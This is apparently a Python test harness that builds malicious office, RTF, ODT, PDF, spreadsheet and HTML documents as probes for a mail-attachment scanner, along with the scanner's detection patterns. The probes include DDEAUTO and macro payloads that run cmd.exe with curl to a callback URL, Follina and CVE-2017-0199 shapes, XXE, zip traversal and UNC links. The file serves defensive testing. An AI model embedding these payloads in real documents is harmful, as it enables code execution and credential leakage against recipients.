    out = io.BytesIO()
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            for info in src.infolist():
                if info.filename == "word/document.xml":
                    dst.writestr("word/document.xml", evil)  # the first one: hostile
                dst.writestr(info.filename, src.read(info))
    return _docx(c, out.getvalue())


def zip_case_variant(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        doc = zf.read("word/document.xml")
    evil = doc.replace(
        b"<w:sectPr",
        ("<w:p>" + cfield(f'INCLUDEPICTURE "{c.url}/case.png" \\d') + "</w:p>").encode()
        + b"<w:sectPr",
        1,
    )
    return _docx(c, rezip(data, extra=[("WORD/DOCUMENT.XML", evil)]))


def zip_traversal_member(c: Ctx) -> tuple[str, bytes, str]:
    name = f"../../../../../../../../tmp/{c.planted_txt.parent.name}-escaped.txt"
    return _docx(c, rezip(base_docx(c.title), extra=[(name, b"escaped " + c.marker.encode())]))


def zip_encrypted_member(c: Ctx) -> tuple[str, bytes, str]:
    """The zip's 'encrypted' flag set on the document part: no reader can read it."""
    data = bytearray(base_docx(c.title))
    # flag bit 0 in every central and local header of word/document.xml
    for sig, off in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        pos = 0
        while (pos := data.find(sig, pos)) != -1:
            nlen_at = 28 if sig == b"PK\x01\x02" else 26
            name_at = 46 if sig == b"PK\x01\x02" else 30
            nlen = int.from_bytes(data[pos + nlen_at : pos + nlen_at + 2], "little")
            if bytes(data[pos + name_at : pos + name_at + nlen]) == b"word/document.xml":
                data[pos + off] |= 1
            pos += 4
    return _docx(c, bytes(data))


def relative_hyperlink_base(c: Ctx) -> tuple[str, bytes, str]:
    data = base_docx(c.title)
    data = rezip(
        data,
        patch={
            "docProps/app.xml": (
                b"</Properties>",
                b"<HyperlinkBase>\\\\127.0.0.1\\share\\</HyperlinkBase></Properties>",
            )
        },
    )
    data = body(data, f'<w:p><w:hyperlink r:id="rIdL1">{run("phụ lục")}</w:hyperlink></w:p>')
    return _docx(
        c, _append_rels(data, "word/document.xml", (("rIdL1", HYPERLINK, "phuluc.exe", True),))
    )


def subdoc_in_header(c: Ctx) -> tuple[str, bytes, str]:
    data = _with_part(
        c,
        "word/header1.xml",
        "w:hdr",
        '<w:p><w:subDoc r:id="rIdH2"/></w:p>' + para("Đầu trang"),
        CT + "header+xml",
        HEADER,
        part_rels=(("rIdH2", _R + "subDocument", f"{c.url}/sub.docx", True),),
        sect='<w:headerReference w:type="default" r:id="rIdP1"/>',
    )
    return _docx(c, data)


def embedded_package_template(c: Ctx) -> tuple[str, bytes, str]:
    """An embedded .docx (a package, not OLE) whose own settings name a remote template."""
    inner = base_docx("phụ lục")
    inner = rezip(
        inner,
        patch={"word/settings.xml": (b"<w:zoom", b'<w:attachedTemplate r:id="rId1"/><w:zoom')},
    )
    inner = _append_rels(
        inner, "word/settings.xml", (("rId1", TEMPLATE, f"{c.url}/embedded.dotm", True),)
    )
    xml = (
        '<w:p><w:r><w:object w:dxaOrig="1" w:dyaOrig="1">'
        "<v:shape id='e1' style='width:10pt;height:10pt'><v:imagedata r:id='rIdK1' o:title=''/><"
        "/v:shape>"
        '<o:OLEObject Type="Embed" ProgID="Word.Document.12" ShapeID="e1" DrawAspect="Icon" '
        'r:id="rIdK2"/></w:object></w:r></w:p>'
    )
    data = body(base_docx(c.title), xml)
    data = rezip(data, put={"word/media/icon.png": png(), "word/embeddings/phuluc.docx": inner})
    data = content_type(data, '<Default Extension="png" ContentType="image/png"/>')
    return _docx(
        c,
        _append_rels(
            data,
            "word/document.xml",
            (
                ("rIdK1", IMAGE, "media/icon.png", False),
                ("rIdK2", _R + "package", "embeddings/phuluc.docx", False),
            ),
        ),
    )


# --- legacy and other formats -------------------------------------------------------------


def rtf_remote_template(c: Ctx) -> tuple[str, bytes, str]:
    rtf = (
        "{\\rtf1\\ansi{\\*\\template "
        + c.url
        + "/rtf-template.dotm}"
        + _rtf_text(c.title)
        + "\\par "
        + _rtf_text(REPORT_TEXT)
        + "\\par}"
    )
    return ("bao-cao.rtf", rtf.encode("ascii"), "application/rtf")


def _rtf_text(text: str) -> str:
    return "".join(
        c if ord(c) < 128 else f"\\u{ord(c) if ord(c) < 32768 else ord(c) - 65536}?" for c in text
    )


def rtf_includetext_and_dde(c: Ctx) -> tuple[str, bytes, str]:
    txt = str(c.planted_txt).replace("\\", "\\\\")
    rtf = (
        "{\\rtf1\\ansi "
        + _rtf_text(c.title)
        + "\\par "
        + _rtf_text(REPORT_TEXT)
        + "\\par "
        + '{\\field{\\*\\fldinst INCLUDETEXT "'
        + txt
        + '"}{\\fldrslt cu}}\\par '
        + '{\\field{\\*\\fldinst DDEAUTO cmd.exe "/k curl '
        + c.url
        + '/rtf-dde"}{\\fldrslt x}}\\par '
        + '{\\field{\\*\\fldinst HYPERLINK "file:///'
        + txt
        + '"}{\\fldrslt tep}}\\par}'
    )
    return ("bao-cao.rtf", rtf.encode("ascii"), "application/rtf")


def rtf_ole_autolink(c: Ctx) -> tuple[str, bytes, str]:
    """CVE-2017-0199's shape: an OLE object linked to a URL, updated on open."""
    url = (c.url + "/rtf-ole.hta").encode()
    moniker = "".join(f"{b:02x}" for b in url)
    rtf = (
        "{\\rtf1\\ansi "
        + _rtf_text(c.title)
        + "\\par "
        + _rtf_text(REPORT_TEXT)
        + "\\par "
        + "{\\object\\objautlink\\objupdate\\rsltpict\\objw100\\objh100"
        + "{\\*\\objclass Word.Document.8}"
        + "{\\*\\objdata 01050000020000000900000050616b6167650000000000"
        + "00000000"
        + moniker
        + "00}{\\result {\\rtlch x}}}\\par}"
    )
    return ("bao-cao.rtf", rtf.encode("ascii"), "application/rtf")


_ODT_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:ooo="http://openoffice.org/2004/office" '
    'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"'
)


def _odt(c: Ctx, inner: str, scripts: str = "", extra: dict[str, bytes] | None = None) -> bytes:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        f'<office:document-content {_ODT_NS} office:version="1.2">{scripts}<office:body>'
        "<office:text>"
        f"<text:p>{escape(c.title)}</text:p><text:p>{escape(REPORT_TEXT)}</text:p>"
        + inner
        + "</office:text></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"'
        ' manifest:version="1.2"><manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        "</manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
        for name, data in (extra or {}).items():
            zf.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


ODT = "application/vnd.oasis.opendocument.text"


def odt_linked_section(c: Ctx) -> tuple[str, bytes, str]:
    inner = (
        '<text:section text:name="s1"><text:section-source xlink:href="'
        + c.planted_txt.as_uri()
        + '" xlink:type="simple" xlink:show="embed"/><text:p>cũ</text:p></text:section>'
        '<text:section text:name="s2"><text:section-source xlink:href="'
        + c.url
        + '/section.odt" xlink:type="simple"/><text:p>cũ</text:p></text:section>'
    )
    return ("bao-cao.odt", _odt(c, inner), ODT)


def odt_macro_on_load(c: Ctx) -> tuple[str, bytes, str]:
    scripts = (
        "<office:scripts><office:event-listeners><script:event-listener "
        'script:language="ooo:script" script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location'
        '=document" '
        'xlink:type="simple"/></office:event-listeners></office:scripts>'
    )
    basic = (
        '<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http:/'
        '/openoffice.org/2000/script" '
        'script:name="Module1" script:language="StarBasic">Sub Main\n Shell("curl '
        + c.url
        + '/odt-macro")\nEnd Sub</script:module>'
    )
    return (
        "bao-cao.odt",
        _odt(c, "", scripts, {"Basic/Standard/Module1.xml": basic.encode()}),
        ODT,
    )


def odt_dde(c: Ctx) -> tuple[str, bytes, str]:
    inner = (
        '<text:dde-connection-decls><text:dde-connection-decl office:name="d1" '
        'office:dde-application="cmd" office:dde-topic="/c curl ' + c.url + '/odt-dde" '
        'office:dde-item="x" office:automatic-update="true"/></text:dde-connection-decls>'
        '<text:p><text:dde-connection text:connection-name="d1">x</text:dde-connection></text:p>'
    )
    return ("bao-cao.odt", _odt(c, inner), ODT)


def pdf_with_actions(c: Ctx, text: bool = True) -> tuple[str, bytes, str]:
    """A PDF whose text is the report, opening with JavaScript, a Launch action and links."""
    content = (
        b"BT /F1 10 Tf 40 760 Td (Bao cao tong hop 6 thang dau nam 2023 cua phong QLKH) Tj ET"
        if text
        else b"0 0 1 rg 10 10 50 50 re f"
    )
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /JavaScript << /Names [(a)"
        b" 5 0 R] >> >> "
        b"/AA << /WC 6 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 7 0 R >> >> /Annots [8 0 R] >>",
        b"<< /Length " + str(len(content)).encode() + b" >>\nstream\n" + content + b"\nendstream",
        b'<< /S /JavaScript /JS (app.launchURL\\("' + c.url.encode() + b'/pdf-js"\\);) >>',
        b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI ("
        + c.url.encode()
        + b"/pdf-uri) >> >>",
    ]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for n, o in enumerate(objs, 1):
        offsets.append(len(out))
        out += f"{n} 0 obj\n".encode() + o + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objs) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += f"trailer\n<< /Size {len(objs) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    return ("bao-cao.pdf", bytes(out), "application/pdf")


def pdf_actions_no_text(c: Ctx) -> tuple[str, bytes, str]:
    return pdf_with_actions(c, text=False)


def xlsx_dde_and_external(c: Ctx) -> tuple[str, bytes, str]:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws["A1"] = c.title
    ws["A2"] = "Chỉ tiêu"
    ws["B2"] = "Kết quả"
    ws["A3"] = "Đề tài nghiệm thu"
    ws["B3"] = 8
    ws["A4"] = "=cmd|' /C calc'!A0"
    ws["A5"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    ws["A6"] = f'=HYPERLINK("{c.url}/xlsx-link","bấm")'
    ws["A7"] = f'=WEBSERVICE("{c.url}/xlsx-ws")'
    buf = io.BytesIO()
    wb.save(buf)
    data = buf.getvalue()
    ext = (
        XML_HEAD
        + b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        + NS_R.encode()
        + b'><externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames><'
        b"/externalBook></externalLink>"
    )
    data = rezip(data, put={"xl/externalLinks/externalLink1.xml": ext})
    data = _append_rels(
        data,
        "xl/externalLinks/externalLink1.xml",
        (("rId1", _R + "externalLinkPath", "\\\\127.0.0.1\\share\\nguon.xlsx", True),),
    )
    data = _append_rels(
        data,
        "xl/workbook.xml",
        (("rIdX9", _R + "externalLink", "externalLinks/externalLink1.xml", False),),
    )
    data = rezip(
        data,
        patch={
            "xl/workbook.xml": (
                b"</sheets>",
                b'</sheets><externalReferences xmlns:r="http://schemas.openxmlformats.org'
                b'/officeDocument/2006/relationships"><externalReference r:id="rIdX9"/>'
                b"</externalReferences>",
            )
        },
    )
    data = content_type(
        data,
        override(
            "xl/externalLinks/externalLink1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
        ),
    )
    return (
        "bao-cao.xlsx",
        data,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    )


def html_body_table(c: Ctx) -> str:
    """An HTML mail body with a table (so it becomes a document) and remote everything."""
    return (
        f"<html><head><link rel='stylesheet' href='{c.url}/body.css'>"
        f"<style>@import url('{c.url}/body-import.css'); td"
        f" {{background-image:url('{c.url}/td.png')}}</style>"
        "</head><body>"
        f"<p>{escape(c.title)}</p><p>{escape(REPORT_TEXT)}</p>"
        f"<table background='{c.url}/table-bg.png'><tr><td>Chỉ tiêu</td><td>Kết quả</td></tr>"
        f"<tr><td>Đề tài <img src='{c.url}/body.png'></td><td>8 <img src"
        f"='{c.planted_png.as_uri()}'></td></tr></table>"
        f"<iframe src='{c.url}/body-iframe'></iframe><object data='{c.url}/body-obj'></object>"
        f"<form action='{c.url}/form'><input name='x'></form>"
        f"<a href='file:///{c.planted_txt}'>tệp</a> <a href='javascript:alert(1)'>js</a> "
        f"<a href='{c.url}/ok-link'>liên kết</a>"
        "</body></html>"
    )


def no_text_active(c: Ctx) -> tuple[str, bytes, str]:
    """A report with no text of its own: a DDEAUTO field with an empty result and a linked
    picture. It gives the draft nothing, so it is an "unread" document whose original
    would go with the Office mail."""
    d = docx.Document()
    out = io.BytesIO()
    d.save(out)
    xml = (
        "<w:p>"
        + cfield('DDEAUTO cmd.exe "/k curl ' + c.url + '/no-text-dde"', result="<w:r/>")
        + "</w:p><w:p>"
        + blip('r:link="rIdQ1"')
        + "</w:p>"
    )
    data = body(out.getvalue(), xml)
    return _docx(
        c, _append_rels(data, "word/document.xml", (("rIdQ1", IMAGE, f"{c.url}/q.png", True),))
    )


def _plain(name: str, data: bytes, ctype: str) -> Callable[[Ctx], tuple[str, bytes, str]]:
    def make(c: Ctx) -> tuple[str, bytes, str]:
        return (name, data.replace(b"@URL@", c.url.encode()), ctype)

    return make


EXE = b"MZ\x90\x00\x03" + b"\x00" * 59 + b"This program cannot be run in DOS mode. @URL@"
SHORTCUT = (
    b"[InternetShortcut]\r\nURL=file://127.0.0.1/share/baocao.exe\r\nIconFile=@URL@/i.ico\r\n"
)
HTML_FILE = (
    b"<html><body><p>Bao cao</p><script>fetch('@URL@/html-file')</script>"
    b"<img src='@URL@/pixel.png'></body></html>"
)
SVG_FILE = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'@URL@/svg-onload\')">'
    b"<script>fetch('@URL@/svg-file')</script></svg>"
)


def zip_with_program(c: Ctx) -> tuple[str, bytes, str]:
    """A .zip holding the report and a program beside it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("bao-cao.docx", base_docx(c.title))
        zf.writestr("cai-dat.exe", EXE.replace(b"@URL@", c.url.encode()))
    return ("ho-so.zip", out.getvalue(), "application/zip")


#: a 7-Zip archive header (no reader in mailflow opens it: whatever is inside is unknown)
SEVEN_ZIP = b"7z\xbc\xaf\x27\x1c\x00\x04" + b"\x00" * 24 + b"cai-dat.exe"


PROBES: list[Probe] = [
    Probe(
        "header-external-picture",
        "a:blip r:embed → External http in header1.xml.rels",
        header_external_picture,
    ),
    Probe(
        "footer-includepicture", "INCLUDEPICTURE http field in footer1.xml", footer_includepicture
    ),
    Probe(
        "footnote-includetext",
        "fldSimple INCLUDETEXT of a server file in footnotes.xml",
        footnote_includetext,
    ),
    Probe("comment-ddeauto", "fldSimple DDEAUTO cmd.exe in comments.xml", comment_ddeauto),
    Probe(
        "glossary-external",
        "glossaryDocument with r:link picture and INCLUDEPICTURE",
        glossary_external,
    ),
    Probe(
        "settings-mailmerge",
        "settings mailMerge: ODBC connectString, SQL query, UNC dataSource",
        settings_mailmerge,
    ),
    Probe(
        "settings-updatefields",
        "settings updateFields=true + dirty INCLUDETEXT field",
        settings_update_fields,
    ),
    Probe(
        "websettings-frameset",
        "webSettings frameset, frame → External http .docx",
        websettings_frameset,
    ),
    Probe(
        "fonttable-external-font",
        "fontTable embedRegular → External http font",
        fonttable_external_font,
    ),
    Probe(
        "document-xxe-file",
        "DOCTYPE in document.xml, entity = a server file shown in text",
        document_xxe_file,
        "refuse",
    ),
    Probe(
        "document-xxe-http",
        "DOCTYPE in document.xml, entity = http URL",
        document_xxe_http,
        "refuse",
    ),
    Probe("billion-laughs", "entity expansion bomb in document.xml", billion_laughs, "refuse"),
    Probe("rels-xxe", "DOCTYPE + external entity in document.xml.rels", rels_xxe, "refuse"),
    Probe("customxml-xxe", "DOCTYPE + file entity in customXml/item1.xml", customxml_xxe, "refuse"),
    Probe(
        "content-types-xxe",
        "DOCTYPE + http entity in [Content_Types].xml",
        content_types_xxe,
        "refuse",
    ),
    Probe(
        "field-split-runs",
        "INCLUDEPICTURE split across three instrText runs",
        _field_probe(" INCLUDE", 'PICTURE "{url}/split.png', '" \\d '),
    ),
    Probe("field-nested-quote", "INCLUDEPICTURE whose path is a nested QUOTE field", nested_field),
    Probe("fldsimple-lowercase", "fldSimple ' includepicture' in lower case", fldsimple_lowercase),
    Probe(
        "field-deleted-ddeauto",
        "DDEAUTO in w:delInstrText inside a tracked deletion",
        deleted_dde_field,
    ),
    Probe(
        "field-in-alternatecontent",
        "INCLUDEPICTURE inside mc:AlternateContent/mc:Choice",
        field_in_alternate_content,
    ),
    Probe(
        "field-in-textbox", "INCLUDETEXT of a server file inside a VML text box", field_in_textbox
    ),
    Probe("field-link-in-sdt", "LINK Excel UNC field inside a content control", field_in_sdt),
    Probe(
        "field-across-paragraphs",
        "INCLUDETEXT whose result spans two paragraphs",
        field_across_paragraphs,
    ),
    Probe(
        "field-import",
        "IMPORT field of an http picture",
        _field_probe(' IMPORT "{url}/import.png" '),
    ),
    Probe(
        "field-dde", "DDE (manual) field", _field_probe(' DDE cmd "/c curl {url}/dde-manual" "x" ')
    ),
    Probe(
        "field-hyperlink-unc",
        "HYPERLINK field to a UNC path",
        _field_probe(' HYPERLINK "\\\\\\\\127.0.0.1\\\\share\\\\x.exe" '),
    ),
    Probe(
        "field-database",
        "DATABASE field with an SQL query on a server file",
        _field_probe(' DATABASE \\d "{txt}" \\s "SELECT * FROM x" '),
    ),
    Probe(
        "hyperlink-unc",
        "w:hyperlink → External \\\\host\\share",
        _hyperlink("\\\\127.0.0.1\\share\\baocao.exe"),
    ),
    Probe("hyperlink-mhtml", "w:hyperlink → External mhtml:", _hyperlink("mhtml:{url}/x.mht!x")),
    Probe(
        "hyperlink-ms-msdt",
        "w:hyperlink → ms-msdt: (Follina protocol)",
        _hyperlink("ms-msdt:/id PCWDiagnostic /param x"),
    ),
    Probe("hyperlink-javascript", "w:hyperlink → javascript:", _hyperlink("javascript:alert(1)")),
    Probe(
        "hyperlink-search-ms",
        "w:hyperlink → search-ms: (remote search folder)",
        _hyperlink("search-ms:query=x&crumb=location:\\\\127.0.0.1\\s"),
    ),
    Probe(
        "hyperlink-webdav",
        "w:hyperlink → file://host@SSL/DavWWWRoot",
        _hyperlink("file://127.0.0.1@SSL/DavWWWRoot/x.docx"),
    ),
    Probe(
        "hyperlink-http",
        "w:hyperlink → plain http (the one kind allowed)",
        _hyperlink("{url}/plain-link"),
    ),
    Probe(
        "ole-link-follina",
        "o:OLEObject Type=Link → External mhtml:…!x-usc: (CVE-2022-30190 shape)",
        ole_link_follina,
    ),
    Probe(
        "activex-control", "w:control → activeX1.xml + activeX1.bin (WebBrowser)", activex_control
    ),
    Probe(
        "vba-renamed",
        ".docm renamed .docx, vbaProject under another name, macroEnabled type",
        vba_renamed,
        "refuse",
    ),
    Probe("vba-case-variant", "vbaProject rel to word/VBAPROJECT.BIN", vba_case_variant, "refuse"),
    Probe(
        "altchunk-html-links",
        "altChunk HTML: <link>, @import, <base>, iframe, object, svg image, file: img",
        altchunk_html_links,
    ),
    Probe("altchunk-rtf", "altChunk RTF with INCLUDEPICTURE", altchunk_rtf),
    Probe(
        "vml-src-attribute",
        "v:imagedata src=http and v:fill src=file: (no relationship)",
        vml_src_attribute,
    ),
    Probe("vml-background", "w:background v:fill r:id → External http", vml_background),
    Probe(
        "numbering-picture-bullet",
        "numPicBullet v:imagedata → External http (numbering.xml.rels)",
        numbering_picture_bullet,
    ),
    Probe(
        "blip-embed-and-link",
        "a:blip with both r:embed (ok) and r:link (External)",
        blip_link_and_embed,
    ),
    Probe(
        "svg-picture-script",
        "svgBlip SVG part with <script>, http <image>, file: xlink:href",
        svg_picture,
    ),
    Probe(
        "theme-linked-picture", "theme1.xml blipFill r:link → External http", theme_linked_picture
    ),
    Probe(
        "traversal-rel-target",
        "image rel Target ../../…/planted.png (internal)",
        traversal_rel_target,
    ),
    Probe(
        "zip-duplicate-document",
        "two word/document.xml, the first with DDEAUTO",
        zip_duplicate_document,
        "refuse",
    ),
    Probe(
        "zip-case-variant",
        "WORD/DOCUMENT.XML beside word/document.xml, with a field",
        zip_case_variant,
        "refuse",
    ),
    Probe("zip-traversal-member", "a member named ../../../../tmp/…", zip_traversal_member),
    Probe(
        "zip-encrypted-member",
        "zip 'encrypted' flag on word/document.xml",
        zip_encrypted_member,
        "refuse",
    ),
    Probe(
        "hyperlink-base-unc",
        "app.xml HyperlinkBase \\\\host\\share + relative External hyperlink",
        relative_hyperlink_base,
    ),
    Probe("subdoc-in-header", "w:subDoc → External http in a header", subdoc_in_header),
    Probe(
        "embedded-package-template",
        "embedded .docx (package) with a remote attachedTemplate",
        embedded_package_template,
    ),
    Probe("rtf-remote-template", "RTF {\\*\\template http://…}", rtf_remote_template),
    Probe(
        "rtf-includetext-dde",
        "RTF INCLUDETEXT of a server file, DDEAUTO, file: HYPERLINK",
        rtf_includetext_and_dde,
    ),
    Probe(
        "rtf-ole-autolink",
        "RTF \\object\\objautlink\\objupdate to a URL (CVE-2017-0199 shape)",
        rtf_ole_autolink,
    ),
    Probe("odt-linked-section", "ODT text:section-source → file: and http", odt_linked_section),
    Probe(
        "odt-macro-on-load",
        "ODT dom:load event → Basic macro (Basic/Standard/Module1.xml)",
        odt_macro_on_load,
    ),
    Probe("odt-dde", "ODT DDE connection, automatic update", odt_dde),
    Probe(
        "pdf-actions",
        "PDF with text + OpenAction JavaScript, Launch, AA, URI link",
        pdf_with_actions,
        text=False,
    ),
    Probe(
        "pdf-actions-no-text",
        "PDF with no text, only JavaScript/Launch/URI",
        pdf_actions_no_text,
        text=False,
    ),
    Probe(
        "attached-exe",
        "bao-cao.exe (MZ header)",
        _plain("bao-cao.exe", EXE, "application/octet-stream"),
        text=False,
    ),
    Probe(
        "attached-js",
        "bao-cao.js (Windows Script Host)",
        _plain(
            "bao-cao.js",
            b"new ActiveXObject('WScript.Shell').Run('calc')",
            "application/javascript",
        ),
        text=False,
    ),
    Probe(
        "attached-url-shortcut",
        "bao-cao.url: InternetShortcut to file:// UNC, remote icon",
        _plain("bao-cao.url", SHORTCUT, "application/octet-stream"),
        text=False,
    ),
    Probe(
        "attached-html-file",
        "bao-cao.html with script and a remote pixel",
        _plain("bao-cao.html", HTML_FILE, "text/html"),
        text=False,
    ),
    Probe(
        "attached-svg-image",
        "so-do.svg with onload and script",
        _plain("so-do.svg", SVG_FILE, "image/svg+xml"),
        text=False,
    ),
    Probe("zip-with-program", "ho-so.zip: the report and cai-dat.exe", zip_with_program),
    Probe(
        "attached-7z",
        "ho-so.7z (an archive mailflow cannot open)",
        _plain("ho-so.7z", SEVEN_ZIP, "application/x-7z-compressed"),
        text=False,
    ),
    Probe(
        "no-text-active",
        "a .docx with no text: DDEAUTO + linked picture only",
        no_text_active,
        "no-text",
    ),
    Probe(
        "xlsx-dde-external",
        "xlsx: DDE formulas, HYPERLINK/WEBSERVICE, externalLink to UNC",
        xlsx_dde_and_external,
        text=False,
    ),
]


# --- the scanner ----------------------------------------------------------------------------

#: fields a draft may hold: the template's page numbers
OWN_FIELDS = {"PAGE", "NUMPAGES", "SECTIONPAGES"}
_ACTIVE_XML = [
    (rb"<!DOCTYPE|<!ENTITY", "doctype"),
    (rb"\br:link=", "r:link"),
    (rb"\bo:href=", "o:href"),
    (rb"attachedTemplate", "attachedTemplate"),
    (rb"OLEObject|oleObject|<w:object\b", "ole"),
    (rb"<w:control\b|activeX", "activeX"),
    (rb"vbaProject|macroEnabled", "vba"),
    (rb"altChunk|aFChunk", "altChunk"),
    (rb"<w:frameset|<w:frame\b", "frameset"),
    (rb"<w:subDoc\b", "subDoc"),
    (rb"<w:mailMerge|<w:dataSource|connectString", "mailMerge"),
    (rb"<w:updateFields", "updateFields"),
    (rb"w:dirty=\"(?:true|1|on)\"", "dirty-field"),
    (rb"\bsrc=['\"](?!data:)", "src="),
    (rb"file:|mhtml:|ms-msdt:|search-ms:|javascript:|DavWWWRoot", "scheme"),
    (rb"\\\\\\\\|&#92;&#92;", "unc"),
    (rb"<w:delInstrText|<w:instrText|<w:fldSimple", "field"),
    (rb"<script|svgBlip", "svg/script"),
    (rb"127\.0\.0\.1", "listener-address"),
    (rb"<w:embed(?:Regular|Bold|Italic|BoldItalic)\b", "embedded-font"),
]
_FIELD = re.compile(rb"<w:(?:del)?instrText[^>]*>([^<]*)<|<w:fldSimple[^>]*w:instr=\"([^\"]*)\"")
_REL = re.compile(rb"<Relationship\b[^>]*>")


def _attr(tag: bytes, name: bytes) -> str:
    m = re.search(rb"\b" + name + rb"=\"([^\"]*)\"", tag) or re.search(
        rb"\b" + name + rb"='([^']*)'", tag
    )
    return m.group(1).decode("utf-8", "replace") if m else ""


def _visible_text_removed(xml: bytes) -> bytes:
    """Markup only: the text of w:t is what a person reads (it may name what was removed,
    the URL of a kept link), not something Word acts on."""
    return re.sub(rb"(<w:t(?:\s[^>]*)?>)[^<]*(</w:t>)", rb"\1\2", xml)


def scan_ooxml(data: bytes, allow_fields: set[str] = OWN_FIELDS) -> list[str]:
    """Every external reference or active content in an OOXML package, one line each.
    An External hyperlink to plain http(s)/mailto is listed as "ok-hyperlink:…" (allowed)."""
    out: list[str] = []
    try:
        zf = zipfile.ZipFile(io.BytesIO(data))
    except zipfile.BadZipFile:
        return ["not-a-zip"]
    names = zf.namelist()
    lower = [n.lower() for n in names]
    if len(set(lower)) != len(lower):
        out.append("zip:duplicate-or-case-variant-names")
    for n in names:
        if n.startswith("/") or ".." in n.split("/") or "\\" in n:
            out.append(f"zip:bad-name:{n}")
        if n.lower().endswith(".bin") or "/embeddings/" in n or "activex" in n.lower():
            out.append(f"part:{n}")
    for n in names:
        try:
            blob = zf.read(n)
        except (RuntimeError, zipfile.BadZipFile, NotImplementedError):
            out.append(f"unreadable:{n}")
            continue
        if n.endswith(".rels"):
            for tag in _REL.findall(blob):
                target, rtype = _attr(tag, b"Target"), _attr(tag, b"Type")
                if _attr(tag, b"TargetMode") == "External":
                    kind = rtype.rsplit("/", 1)[-1]
                    if kind == "hyperlink" and re.match(r"(?i)(https?|mailto):", target):
                        out.append(f"ok-hyperlink:{target}")
                    else:
                        out.append(f"external:{kind}:{target}")
        if n.endswith((".xml", ".rels", ".vml", ".svg", ".html", ".htm")):
            markup = _visible_text_removed(blob)
            for pattern, label in _ACTIVE_XML:
                if label == "field":
                    continue
                if re.search(pattern, markup):
                    out.append(f"{label}@{n}")
            for m in _FIELD.finditer(blob):
                code = (m.group(1) or m.group(2) or b"").decode("utf-8", "replace").split()
                if code and code[0].upper() not in allow_fields:
                    out.append(f"field:{code[0].upper()}@{n}")
    return sorted(set(out))


def active(findings: list[str], allow_http_links: bool = True) -> list[str]:
    return [f for f in findings if not (allow_http_links and f.startswith("ok-hyperlink:"))]


#: file kinds Windows runs or follows when a person opens them
RUNNABLE = {
    "exe",
    "com",
    "scr",
    "pif",
    "bat",
    "cmd",
    "js",
    "jse",
    "vbs",
    "vbe",
    "wsf",
    "wsh",
    "ps1",
    "hta",
    "msi",
    "lnk",
    "url",
    "scf",
    "reg",
    "jar",
    "cpl",
    "dll",
    "iso",
    "img",
    "vhd",
    "chm",
    "inf",
    "docm",
    "dotm",
    "xlsm",
    "xltm",
    "xlam",
    "pptm",
    "ppsm",
    "potm",
    "sldm",
}


def scan_attachment(name: str, data: bytes) -> list[str]:
    """What a file mailed to the Office carries that can act when opened."""
    low = name.lower()
    if low.rsplit(".", 1)[-1] in ("7z", "rar", "gz", "tgz", "bz2", "xz", "tar", "cab"):
        return ["archive-not-looked-into"]
    if data[:2] == b"MZ" or low.rsplit(".", 1)[-1] in RUNNABLE:
        return [f"runnable:{low.rsplit('.', 1)[-1]}"]
    if re.search(rb"(?i)<script|\bon[a-z]+\s*=|javascript:", data[:1_000_000]):
        return ["markup:script"]
    if data[:2] == b"PK":
        return active(scan_ooxml(data)) + _scan_odf(data)
    if low.endswith(".rtf") or data[:5] == b"{\\rtf":
        hits = re.findall(rb"\\object|\\objdata|\\\*\\template|\\fldinst|INCLUDE|DDE", data)
        return sorted({f"rtf:{h.decode()}" for h in hits})
